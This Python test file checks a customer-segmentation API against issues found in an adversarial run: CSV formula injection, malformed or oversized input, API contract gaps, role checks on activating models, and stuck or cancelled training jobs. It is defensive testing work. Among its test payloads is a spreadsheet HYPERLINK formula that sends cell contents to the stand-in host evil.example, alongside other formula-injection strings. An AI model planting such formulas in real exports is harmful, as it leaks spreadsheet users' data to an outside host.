"""Findings of an adversarial run (issue 9): injection, stuck jobs, generic 500s, contract gaps."""

from __future__ import annotations

import csv
import io
import time
from typing import Any

import pytest

from segcore import layout
from tests.api.test_models_api import RecordingDispatcher
from tests.support.api import assert_error, seed_account

CUSTOMER = {"age": 30, "annual_income": 120, "spending_score": 85, "purchase_frequency": 20}
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


# ---- 1. CSV formula injection -----------------------------------------------------------------


@pytest.mark.parametrize("name", [EVIL, "+cmd", "-2+3", "@SUM(A1)", "Big\x00spenders", "Big\u202espenders"])
def test_rename_refuses_formulas_and_control_characters(client, active_model, name):
    analyst = seed_account("analyst")
    reply = client.put(f"/models/{active_model.version}/clusters/0", {"name": name}, token=analyst.token)
    body = assert_error(reply, 422)
    assert body["details"][0]["field"] == "name"


def test_rename_description_may_span_lines_but_has_no_other_control_characters(client, active_model):
    analyst = seed_account("analyst")
    path = f"/models/{active_model.version}/clusters/0"
    assert client.put(path, {"description": "Line one\nline two"}, token=analyst.token).status == 200
    body = assert_error(client.put(path, {"description": "bell\x07"}, token=analyst.token), 422)
    assert body["details"][0]["field"] == "description"


def test_every_csv_output_neutralises_formula_cells(client, active_model):
    from chalicelib.services import services
    from segcore.document import dumps

    user = seed_account()
    svc = services()
    version = active_model.version
    doc = svc.models.document(version)
    for cluster_id, cluster in enumerate(doc["clusters"]):  # a name stored before names were checked
        cluster["name"] = f"{EVIL}{cluster_id}"
    svc.registry.artifacts.put_bytes(
        layout.model_document_key(version), dumps(doc).encode(), "application/json"
    )
    svc.registry.artifacts.put_json(layout.ACTIVE_POINTER_KEY, {"version": version, "revision": 7})
    svc.models.invalidate()

    assert client.post("/predict", CUSTOMER, token=user.token).status == 200
    batch = client.request(
        "POST",
        "/predict/batch",
        raw="age,annual_income,spending_score,purchase_frequency\n30,120,85,20\n=1+2,5,5,5\n",
        token=user.token,
        headers={"Content-Type": "text/csv", "Accept": "text/csv"},
    )
    assert batch.status == 200, batch.body[:300]
    history = client.get("/history/export", token=user.token)
    assert history.status == 200
    batch_id = batch.headers["X-Batch-Id"]
    download = client.get(f"/history/{batch_id}", token=user.token, headers={"Accept": "text/csv"})
    assert download.status == 200
    for text in (batch.body.decode(), history.body.decode(), download.body.decode()):
        cells = csv_cells(text)
        assert any(cell.startswith("'=HYPERLINK") for cell in cells), text[:400]
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], text[:400]


# ---- 3. no generic 500s -----------------------------------------------------------------------

DEEP = "[" * 100_000 + "]" * 100_000


def test_deeply_nested_json_is_400_before_and_after_login(client, active_model):
    user = seed_account()
    assert_error(client.request("POST", "/auth/login", raw=DEEP), 400, "malformed_json")
    for path in ("/predict", "/predict/batch"):
        assert_error(client.request("POST", path, raw=DEEP, token=user.token), 400, "malformed_json")
        nested = '{"customers": ' + DEEP + "}"
        assert_error(client.request("POST", path, raw=nested, token=user.token), 400, "malformed_json")


CR_ONLY = "age,annual_income,spending_score,purchase_frequency\r30,120,85,20\r40,60,50,10\r"
HUGE_FIELD = 'age,annual_income,spending_score,purchase_frequency\n30,120,85,"' + "9" * 140_000 + '"\n'


def test_cr_only_csv_is_read(client, active_model):
    user = seed_account()
    analyst = seed_account("analyst")
    headers = {"Content-Type": "text/csv"}
    batch = client.request("POST", "/predict/batch", raw=CR_ONLY, token=user.token, headers=headers)
    assert batch.status == 200, batch.body[:300]
    assert (batch.json["count"], batch.json["failed"]) == (2, 0)
    dataset = client.request("POST", "/datasets", raw=CR_ONLY, token=analyst.token, headers=headers)
    assert dataset.status == 201, dataset.body[:300]
    assert dataset.json["rows"] == 2


def test_csv_field_over_the_csv_limit_is_a_clear_422_or_read_whole(client, active_model):
    user = seed_account()
    analyst = seed_account("analyst")
    headers = {"Content-Type": "text/csv"}
    batch = client.request("POST", "/predict/batch", raw=HUGE_FIELD, token=user.token, headers=headers)
    assert "field larger than field limit" in assert_error(batch, 422)["message"]
    # The dataset reader (segcore.table) has no per-field limit: the file is profiled, not a 500.
    dataset = client.request("POST", "/datasets", raw=HUGE_FIELD, token=analyst.token, headers=headers)
    assert dataset.status == 201, dataset.body[:300]
    assert dataset.json["rows"] + dataset.json["rejected_rows"] == 1


@pytest.mark.parametrize("cursor", ["YQ.%C3%A9", "%C3%A9.%C3%A9", "YQ.", "."])
def test_a_non_ascii_cursor_is_400_on_every_paged_list(client, active_model, cursor):
    admin = seed_account("admin")
    for path in ("/history", "/profiles", "/admin/users", "/users", "/admin/audit"):
        assert_error(client.get(f"{path}?cursor={cursor}", token=admin.token), 400, "invalid_cursor")


def test_tiny_income_is_stored_or_refused_never_a_500(client, active_model):
    user = seed_account()
    profile = {"name": "tiny", **CUSTOMER}
    stored = client.post("/profiles", {**profile, "annual_income": 1e-130}, token=user.token)
    assert stored.status == 201, stored.body[:300]
    assert stored.json["annual_income"] == 1e-130
    for tiny in (1e-131, 5e-324):
        body = assert_error(
            client.post("/profiles", {**profile, "annual_income": tiny}, token=user.token), 422
        )
        assert body["details"][0]["field"] == "annual_income"
        assert_error(client.post("/predict", {**CUSTOMER, "annual_income": tiny}, token=user.token), 422)


# ---- 6. contract mismatches -------------------------------------------------------------------


def test_openapi_names_the_history_filter_from(client, aws):
    doc = client.get("/openapi.json").json
    names = {p["name"] for p in doc["paths"]["/history"]["get"]["parameters"]}
    assert {"from", "to"} <= names and "from_" not in names


def test_openapi_lists_the_statuses_a_csv_upload_can_return(client, aws):
    doc = client.get("/openapi.json").json
    responses = doc["paths"]["/datasets"]["post"]["responses"]
    # Any signed-in user may upload a dataset (their own), so there is no 403 here.
    assert {"201", "400", "401", "413", "415", "422", "503"} <= set(responses)


def test_integral_floats_are_accepted_for_integer_fields(client, active_model):
    user = seed_account()
    floats = {"age": 30.0, "annual_income": 120.0, "spending_score": 85.0, "purchase_frequency": 20.0}
    predicted = client.post("/predict", floats, token=user.token)
    assert predicted.status == 200, predicted.body[:300]
    assert predicted.json["customer_data"]["age"] == 30
    profile = client.post("/profiles", {"name": "floats", **floats}, token=user.token)
    assert profile.status == 201, profile.body[:300]
    assert (profile.json["age"], profile.json["spending_score"]) == (30, 85)
    update = client.put(f"/profiles/{profile.json['id']}", {"age": 31.0, "version": 1.0}, token=user.token)
    assert update.status == 200, update.body[:300]
    for bad in ({**floats, "age": 30.5}, {**floats, "age": "30"}, {**floats, "age": True}):
        assert_error(client.post("/predict", bad, token=user.token), 422)


def test_put_users_me_without_changes_is_422(client, aws):
    user = seed_account()
    assert_error(client.request("PUT", "/users/me", token=user.token), 422)
    assert_error(client.put("/users/me", {}, token=user.token), 422)
    changed = client.put("/users/me", {"full_name": "Ada"}, token=user.token)
    assert changed.status == 200 and changed.json["full_name"] == "Ada"


# Arabic-Indic, fullwidth and Devanagari "30": float() would take each of them.
@pytest.mark.parametrize("digits", ["\u0663\u0660", "\uff13\uff10", "\u0969\u0966"])
def test_csv_numbers_are_ascii_digits_only(client, active_model, digits):
    user = seed_account()
    text = f"age,annual_income,spending_score,purchase_frequency\n{digits},120,85,20\n"
    reply = client.request(
        "POST", "/predict/batch", raw=text, token=user.token, headers={"Content-Type": "text/csv"}
    )
    assert reply.status == 200
    [row] = reply.json["results"]
    assert row["errors"] == [{"field": "age", "message": "must be an integer"}]


# ---- 7. who may put a model live ---------------------------------------------------------------


@pytest.fixture()
def dispatcher(monkeypatch) -> RecordingDispatcher:
    """No trainer runs: the jobs' events are recorded, their status is set by each test."""
    from chalicelib.services import services

    return _install(monkeypatch, services().training, RecordingDispatcher())


def _install(monkeypatch, training: Any, recorder: RecordingDispatcher) -> RecordingDispatcher:
    monkeypatch.setattr(training, "dispatcher", recorder)
    return recorder


def finish_job(job_id: str, **changes: Any) -> None:
    from chalicelib.services import services

    artifacts = services().training.artifacts
    status = artifacts.get_json(layout.job_key(job_id))
    status.update(changes)
    artifacts.put_json(layout.job_key(job_id), status)


def test_activate_defaults_to_false_for_analysts_and_true_for_admins(client, active_model, dispatcher):
    analyst, admin = seed_account("analyst"), seed_account("admin")
    first = client.post("/train", {"k": 3}, token=analyst.token)
    assert first.status == 202, first.body[:300]
    finish_job(first.json["job_id"], status="succeeded")
    second = client.post("/train", {"k": 3}, token=admin.token)
    assert second.status == 202, second.body[:300]
    assert [e["activate"] for e in dispatcher.events] == [False, True]


def test_an_analyst_asking_to_activate_is_403_and_nothing_starts(client, active_model, dispatcher):
    analyst = seed_account("analyst")
    assert_error(client.post("/train", {"activate": True}, token=analyst.token), 403, "activation_forbidden")
    assert dispatcher.events == []
    assert client.post("/train", {"activate": False}, token=analyst.token).status == 202


def test_an_activation_by_training_is_audited_once(client, active_model, dispatcher):
    admin = seed_account("admin")
    job_id = client.post("/train", {"k": 3}, token=admin.token).json["job_id"]
    finish_job(
        job_id,
        status="succeeded",
        finished_at="2026-12-01T10:00:00.000Z",
        model_version="v-trained",
        metrics={"activated": True, "n_clusters": 3},
    )
    for _ in range(3):  # however often the job and the log are read
        assert client.get(f"/train/{job_id}", token=admin.token).status == 200
        events = client.get("/admin/audit", token=admin.token).json["events"]
    activations = [e for e in events if e["action"] == "model.activated"]
    assert len(activations) == 1
    [event] = activations
    assert (event["target"], event["actor_id"], event["actor_username"]) == (
        "v-trained",
        admin.id,
        admin.username,
    )
    assert event["details"] == {"by": "training", "job_id": job_id}


def test_an_activation_by_training_is_audited_even_if_nobody_reads_the_job(client, active_model, dispatcher):
    admin = seed_account("admin")
    job_id = client.post("/train", {"k": 3}, token=admin.token).json["job_id"]
    finish_job(job_id, status="succeeded", model_version="v-quiet", metrics={"activated": True})
    events = client.get("/admin/audit", token=admin.token).json["events"]
    assert [e["target"] for e in events if e["action"] == "model.activated"] == ["v-quiet"]


# ---- 2. stuck jobs (the API side; the real trainer is killed in tests/integration) ------------


def test_a_silent_job_is_failed_and_its_lock_released(client, active_model, dispatcher, monkeypatch):
    from chalicelib.services import services

    analyst = seed_account("analyst")
    job_id = client.post("/train", {"k": 3}, token=analyst.token).json["job_id"]
    assert_error(client.post("/train", {"k": 3}, token=analyst.token), 409, "training_in_progress")
    finish_job(job_id, status="running", heartbeat_at=time.time() - 30)
    assert client.get(f"/train/{job_id}", token=analyst.token).json["status"] == "running"
    monkeypatch.setattr(services().training, "heartbeat_timeout_seconds", 20.0)
    health = client.get("/health").json
    assert health["training"]["status"] == "stuck" and health["training"]["job_id"] == job_id
    assert health["status"] == "degraded"
    job = client.get(f"/train/{job_id}", token=analyst.token).json
    assert job["status"] == "failed" and "heartbeat" in job["error"]
    assert client.get("/health").json["training"]["status"] == "stuck"  # until the next job
    assert client.post("/train", {"k": 3}, token=analyst.token).status == 202
    assert client.get("/health").json["training"]["status"] == "queued"


def test_an_admin_cancels_a_running_job_once(client, active_model, dispatcher):
    analyst, admin = seed_account("analyst"), seed_account("admin")
    job_id = client.post("/train", {"k": 3}, token=analyst.token).json["job_id"]
    assert_error(client.post(f"/train/{job_id}/cancel", token=analyst.token), 403)
    cancelled = client.post(f"/train/{job_id}/cancel", token=admin.token)
    assert cancelled.status == 200, cancelled.body[:300]
    assert cancelled.json["status"] == "failed" and cancelled.json["stage"] == "cancelled"
    assert admin.username in cancelled.json["error"]
    assert_error(client.post(f"/train/{job_id}/cancel", token=admin.token), 409, "job_finished")
    assert_error(client.post("/train/job-nope/cancel", token=admin.token), 404)
    assert client.post("/train", {"k": 3}, token=analyst.token).status == 202  # lock released
    events = client.get("/admin/audit", token=admin.token).json["events"]
    assert [e["target"] for e in events if e["action"] == "model.training_cancelled"] == [job_id]
    doc = client.get("/openapi.json").json
    assert "409" in doc["paths"]["/train/{job_id}/cancel"]["post"]["responses"]


def trainer_writes_after_the_apis_next_read(monkeypatch, job_id: str, **changes: Any) -> list[str]:
    """The trainer's write (``changes``) lands between the API's next read of the job and its write."""
    from chalicelib.services import services

    artifacts = services().training.artifacts
    real_read, reads = artifacts.read_record, []

    def read_then_trainer_writes(key: str) -> Any:
        found = real_read(key)
        reads.append(key)
        if len(reads) == 1:
            finish_job(job_id, **changes)
        return found

    monkeypatch.setattr(artifacts, "read_record", read_then_trainer_writes)
    return reads


def test_a_cancel_racing_a_heartbeat_is_written_over_the_new_heartbeat(
    client, active_model, dispatcher, monkeypatch
):
    admin = seed_account("admin")
    job_id = client.post("/train", {"k": 3}, token=admin.token).json["job_id"]
    reads = trainer_writes_after_the_apis_next_read(
        monkeypatch, job_id, status="running", stage="fitting", heartbeat_at=time.time()
    )
    cancelled = client.post(f"/train/{job_id}/cancel", token=admin.token)
    assert cancelled.status == 200, cancelled.body[:300]
    assert len(reads) == 2  # the first write was refused: the heartbeat had changed the record
    job = client.get(f"/train/{job_id}", token=admin.token).json
    assert (job["status"], job["stage"]) == ("failed", "cancelled")


def test_a_job_that_succeeds_while_the_api_fails_it_as_silent_keeps_its_success(
    client, active_model, dispatcher, monkeypatch
):
    from chalicelib.services import services

    analyst = seed_account("analyst")
    job_id = client.post("/train", {"k": 3}, token=analyst.token).json["job_id"]
    finish_job(job_id, status="running", heartbeat_at=time.time() - 120)
    monkeypatch.setattr(services().training, "heartbeat_timeout_seconds", 60.0)
    trainer_writes_after_the_apis_next_read(
        monkeypatch,
        job_id,
        status="succeeded",
        stage="done",
        model_version="v-late",
        heartbeat_at=time.time(),
    )
    job = client.get(f"/train/{job_id}", token=analyst.token).json
    assert (job["status"], job["model_version"], job["error"]) == ("succeeded", "v-late", None)


def test_a_cancel_whose_answer_was_lost_is_still_a_cancel_and_audited(
    client, active_model, dispatcher, monkeypatch
):
    from chalicelib.services import services
    from segcore.records import RecordChanged

    admin = seed_account("admin")
    job_id = client.post("/train", {"k": 3}, token=admin.token).json["job_id"]
    artifacts = services().training.artifacts
    real_write = artifacts.write_record

    def lands_but_answers_changed(key: str, value: Any, *, version: str | None) -> str:
        real_write(key, value, version=version)  # a botocore retry then meets its own write
        raise RecordChanged(key)

    monkeypatch.setattr(artifacts, "write_record", lands_but_answers_changed)
    cancelled = client.post(f"/train/{job_id}/cancel", token=admin.token)
    assert cancelled.status == 200, cancelled.body[:300]
    assert (cancelled.json["status"], cancelled.json["stage"]) == ("failed", "cancelled")
    events = client.get("/admin/audit", token=admin.token).json["events"]
    assert [e["target"] for e in events if e["action"] == "model.training_cancelled"] == [job_id]


def test_a_silent_job_at_activating_is_only_failed_once_the_trainer_cannot_be_running(
    client, active_model, dispatcher, monkeypatch
):
    analyst = seed_account("analyst")
    job_id = client.post("/train", {"k": 3}, token=analyst.token).json["job_id"]
    finish_job(job_id, status="running", stage="activating", heartbeat_at=time.time() - 120)
    assert client.get(f"/train/{job_id}", token=analyst.token).json["status"] == "running"
    finish_job(job_id, heartbeat_at=time.time() - 17 * 60)  # past Lambda's 15-minute limit
    job = client.get(f"/train/{job_id}", token=analyst.token).json
    assert job["status"] == "failed" and "heartbeat" in job["error"]


def test_a_job_activating_its_model_can_no_longer_be_cancelled(client, active_model, dispatcher):
    admin = seed_account("admin")
    job_id = client.post("/train", {"k": 3}, token=admin.token).json["job_id"]
    finish_job(job_id, status="running", stage="activating", heartbeat_at=time.time())
    refused = assert_error(client.post(f"/train/{job_id}/cancel", token=admin.token), 409, "job_finished")
    assert "activating" in refused["message"]
    assert client.get(f"/train/{job_id}", token=admin.token).json["status"] == "running"
